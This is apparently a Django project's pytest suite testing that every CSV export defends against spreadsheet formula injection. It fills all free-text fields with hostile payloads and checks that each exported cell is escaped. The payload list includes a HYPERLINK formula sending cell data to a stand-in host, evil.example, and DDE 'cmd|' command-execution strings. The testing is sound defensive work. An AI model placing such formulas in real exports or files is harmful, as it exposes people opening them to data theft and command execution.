"""Spreadsheet formula injection (issue 16): every CSV export, hostile text in every text field.

The data is built through the normal services, then every free-text column of the
models the exports read is overwritten with a formula payload. Every CSV URL the
project routes is fetched (the test fails if a new one is not listed here) and every
cell of every row is checked with a rule written independently of the writer's.
"""

import csv
import io

import pytest
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from advocacy.exports import spreadsheet_safe
from advocacy.people.models import Team, User
from content_library.models import Campaign, Post
from draws.models import Draw, Prize, Winner
from leaderboard.models import PointEvent
from leaderboard.services import points_adjust
from leaderboard.tasks import rebuild_standings
from tests.analytics.conftest import build_program
from tests.draws.helpers import make_draw
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

RANGE = {"start": "2026-03-02", "end": "2026-03-11"}
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 evil.example",
    "\r=1+1 evil.example",
    '  "=1+1 evil.example',
    "'=1+1 evil.example",
]
# Columns that are not free text: hashes and seeds the draw verifies, passwords, codes.
NOT_FREE_TEXT = {"password", "list_text", "list_sha256", "seed_sha256", "seed_hex", "entrant_key_hex", "mix"}
HOSTILE_MODELS = [User, Team, Campaign, Post, Draw, Prize, Winner, PointEvent]


def _free_text_fields(model):
    for field in model._meta.concrete_fields:
        if (
            isinstance(field, (models.CharField, models.TextField))
            and not isinstance(field, models.SlugField)
            and not field.choices
            and field.name not in NOT_FREE_TEXT
            and field.name != "time_zone"
        ):
            yield field


def _make_everything_hostile():
    for model in HOSTILE_MODELS:
        fields = list(_free_text_fields(model))
        for index, pk in enumerate(model.objects.values_list("pk", flat=True)):
            values = {}
            for offset, field in enumerate(fields):
                value = f"{PAYLOADS[(index + offset) % len(PAYLOADS)]}{pk}"
                values[field.name] = value[: field.max_length] if field.max_length else value
            model.objects.filter(pk=pk).update(**values)


def _runs_as_formula(cell: str) -> bool:
    """A cell a spreadsheet may run: a formula sign first, or after blanks and quotes, unless quote-escaped."""
    if cell.startswith("'"):
        return False
    stripped = cell.lstrip(" \t\r\n\"'")
    if cell[:1] in ("\t", "\r"):
        return True
    try:
        float(cell)
        return False
    except ValueError:
        return stripped[:1] in ("=", "+", "-", "@")


def _csv_route_names():
    names = set()

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
            elif isinstance(pattern, URLPattern) and ".csv" in str(pattern.pattern):
                names.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns)
    return names


@pytest.fixture
def hostile_world(casey, harper):
    program = build_program(people_per_team=(6, 6), posts=3, shares_per_person=3, days=5)
    [UserFactory(username=f"entrant{i}") for i in range(6)]
    draw = make_draw(state="drawn")
    Winner.objects.filter(draw=draw).update(removal_reason="x")
    person = program.users[1]
    points_adjust(user=person, points=5, actor=harper, reason="Welcome bonus")
    _make_everything_hostile()
    rebuild_standings()
    return {"program": program, "draw": draw, "person": User.objects.get(pk=person.pk)}


def _exports(world, casey, harper):
    post = world["program"].posts[0]
    yield "analytics:export", harper, {"table": "participation"}, RANGE
    yield "analytics:export", harper, {"table": "people"}, RANGE
    for table in ("posts", "campaigns", "contributors", "networks", "content-types", "trend", "shares"):
        yield "analytics:export", casey, {"table": table}, RANGE
    for table in ("networks", "clicks"):
        yield "analytics:post_export", casey, {"post_id": post.pk, "table": table}, {}
    yield "leaderboard:my_points_csv", world["person"], {}, {}
    yield "leaderboard:board_csv", harper, {}, {}
    yield "leaderboard:person_csv", harper, {"user_id": world["person"].pk}, {}
    yield "draws:manage_export", harper, {"pk": world["draw"].pk}, {}
    # The shipped sample import file (docs/people-import-sample.csv): no stored data, but a cell HR opens.
    yield "people:import_sample", harper, {}, {}


def _only_labels_and_numbers(name: str) -> bool:
    if name.startswith("people:import_sample"):
        return True
    return any(f"'table': '{table}'" in name for table in ("networks", "content-types", "trend", "clicks"))


def test_every_cell_of_every_export_is_defused(client, casey, harper, hostile_world):
    seen_routes, hostile_cells = set(), {}
    for name, who, kwargs, query in _exports(hostile_world, casey, harper):
        seen_routes.add(name)
        client.force_login(User.objects.get(pk=who.pk))
        response = client.get(reverse(name, kwargs=kwargs), query)
        assert response.status_code == 200, (name, kwargs)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = list(csv.reader(io.StringIO(body.decode())))
        for row in rows:
            for cell in row:
                assert not _runs_as_formula(cell), (name, kwargs, row)
        hostile_cells[f"{name} {kwargs}"] = sum(
            "evil.example" in cell or "cmd|" in cell for row in rows for cell in row
        )
    # New CSV routes must be added to this walk.
    assert seen_routes == _csv_route_names()
    # The walk is only worth something if the payloads reached the files.
    empty = [name for name, count in hostile_cells.items() if count == 0 and not _only_labels_and_numbers(name)]
    assert not empty, empty


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ('"=1', "'\"=1"),
        ("'=1", "''=1"),
        ("-3", "-3"),
        ("12.5", "12.5"),
        (-3, "-3"),
        (None, ""),
        ("Alice", "Alice"),
        ("a=b", "a=b"),
    ],
)
def test_the_writer_prefixes_formula_cells_only(value, expected):
    assert spreadsheet_safe(value) == expected
